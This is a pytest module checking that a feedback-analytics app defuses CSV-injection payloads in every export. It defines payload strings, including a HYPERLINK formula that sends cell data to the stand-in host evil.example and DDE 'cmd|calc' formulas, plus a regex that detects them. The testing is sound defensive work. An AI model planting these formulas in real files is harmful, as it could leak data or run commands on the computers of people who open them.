"""Files people open cannot attack them (CSV injection): every export path neutralises formula-leading cells.

A warehouse is loaded through the real loader from a feedback export whose texts, agencies, ids and one bad
date carry the classic payloads; then the opinions CSV, the quarantine CSV and `python -m analytics … --format
csv` are read back cell by cell. A source scan checks that no other module writes a CSV of its own.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import config
from analytics.db import open_warehouse
from analytics.filters import Filters
from analytics.scope import Scope
from etl import export

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
TRIGGER = re.compile(r"^[=+\-@\t\r＝＋－＠]")


def _dangerous(cell: str) -> bool:
    return bool(TRIGGER.match(cell)) and not re.fullmatch(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", cell)


def _cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(data: bytes | str, expect_payload: bool = True) -> None:
    rows = _cells(data)
    bad = [cell for row in rows for cell in row if _dangerous(cell)]
    assert bad == []
    if expect_payload:  # the payloads are there, defused, not dropped
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_round_trips(value: str) -> None:
    safe = export.neutralise(value)
    assert not _dangerous(safe)
    assert export.strip_quote(safe) == value


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0,5", "1e-3", "42"])
def test_plain_numbers_stay_numbers(value: str) -> None:
    assert export.neutralise(value) == value


def test_frame_writer_neutralises_text_cells_and_names_only() -> None:
    frame = pl.DataFrame({"=name": ["=1+1", "ok", None, "-5"], "n": [-1, 2, 3, 4]})
    out = _cells(export.csv_bytes(frame))
    assert out[0] == ["'=name", "n"]
    assert [r[0] for r in out[1:]] == ["'=1+1", "ok", "", "-5"]
    assert [r[1] for r in out[1:]] == ["-1", "2", "3", "4"]
    assert export.csv_bytes(frame).startswith("\ufeff".encode())
    labels = pl.DataFrame({"a": pl.Series(["=1+1", "ok"], dtype=pl.Categorical)})
    assert [r[0] for r in _cells(export.csv_bytes(labels))[1:]] == ["'=1+1", "ok"]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    """A warehouse loaded from an export whose cells carry CSV-injection payloads (one row with a bad date)."""
    from etl.load import load_paths

    data_dir = tmp_path_factory.mktemp("poisoned")
    n = 24
    rows = pl.DataFrame(
        {
            "source_system": "mattranso",
            "source_id": [f"=ID{k}" if k == 3 else f"PX-{k:03d}" for k in range(n)],
            "received_at": ["31/02/2026 09:00" if k == 5 else f"2026-06-{1 + k:02d} 09:00:00" for k in range(n)],
            "channel": "app",
            "province_code": "79",
            "field": "dat_dai",
            "content": [PAYLOADS[k % len(PAYLOADS)] + " đất đai bồi thường" for k in range(n)],
            "status": "answered",
            "answered_at": [f"2026-06-{2 + k:02d} 09:00:00" for k in range(n)],
            "agency": [PAYLOADS[k % len(PAYLOADS)] for k in range(n)],
            "level": "commune",
        }
    )
    source = data_dir / "feedback_poisoned.csv"
    rows.write_csv(source)
    saved = {k: os.environ.get(k) for k in ("FRONT_DATA_DIR", "FRONT_PII_KEY")}
    os.environ["FRONT_DATA_DIR"] = str(data_dir)
    os.environ["FRONT_PII_KEY"] = "test-pii-key"
    try:
        load_paths([source], kind="feedback", progress=False)
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    return data_dir


def _filters() -> Filters:
    return Filters(date_from=date(2026, 1, 1), date_to=date(2026, 12, 31))


def test_opinions_csv_export_is_safe(poisoned: Path, monkeypatch) -> None:
    from ui import data_voices

    monkeypatch.setenv("FRONT_DATA_DIR", str(poisoned))
    path = str(config.current_warehouse())
    _assert_safe(data_voices._export_csv(path, Scope.all(), _filters(), ""))


def test_quarantine_csv_is_safe(poisoned: Path, monkeypatch) -> None:
    from analytics import datahealth
    from etl import templates

    monkeypatch.setenv("FRONT_DATA_DIR", str(poisoned))
    con = open_warehouse(config.current_warehouse())
    try:
        load = next(iter(con.sql("SELECT load_id, path, sheet FROM quarantine LIMIT 1").fetchall()), None)
        assert load is not None, "the bad date must be quarantined"
        rows = datahealth.quarantine_rows(con, Scope.all(), load[0], load[1], load[2])
    finally:
        con.close()
    data = templates.quarantine_csv(rows.iter_rows(named=True), "feedback", "en")
    cells = _cells(data)
    assert "'=1+1 đất đai bồi thường" in cells[1] and "'=1+1" in cells[1]  # defused, not dropped
    _assert_safe(data, expect_payload=False)


@pytest.mark.parametrize("report", ["handling", "overview"])
def test_cli_csv_reports_are_safe(poisoned: Path, report: str) -> None:
    env = {**os.environ, "FRONT_DATA_DIR": str(poisoned), "FRONT_PII_KEY": "test-pii-key"}
    args = [sys.executable, "-m", "analytics", report, "--from", "2026-01-01", "--to", "2026-12-31", "--format", "csv"]
    done = subprocess.run(args, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    _assert_safe(done.stdout, expect_payload=report == "handling")


def test_no_module_writes_a_csv_of_its_own() -> None:
    """One writer for every export: other code that writes CSV text must go through etl.export.

    Allowed exceptions write files that the loader reads, not people: the demo generator, the corrections the
    app drops into the inbox, `etl forget` rewriting an archived input file; and the examples of docs/formats.md."""
    allowed = {"etl/export.py", "etl/demo.py", "etl/corrections.py", "etl/forget.py", "etl/formats_doc.py"}
    pattern = re.compile(r"\.write_csv\(|csv\.writer\(|\.to_csv\(|csv\.DictWriter\(")
    found = []
    for folder in ("analytics", "etl", "ui", "app_pages"):
        for path in (ROOT / folder).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if relative not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                found.append(relative)
    assert found == []


def test_tables_offer_no_export_around_the_safe_writer() -> None:
    """st.dataframe's own CSV download writes cells verbatim and bypasses the audit log: it is switched off."""
    import tomllib

    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
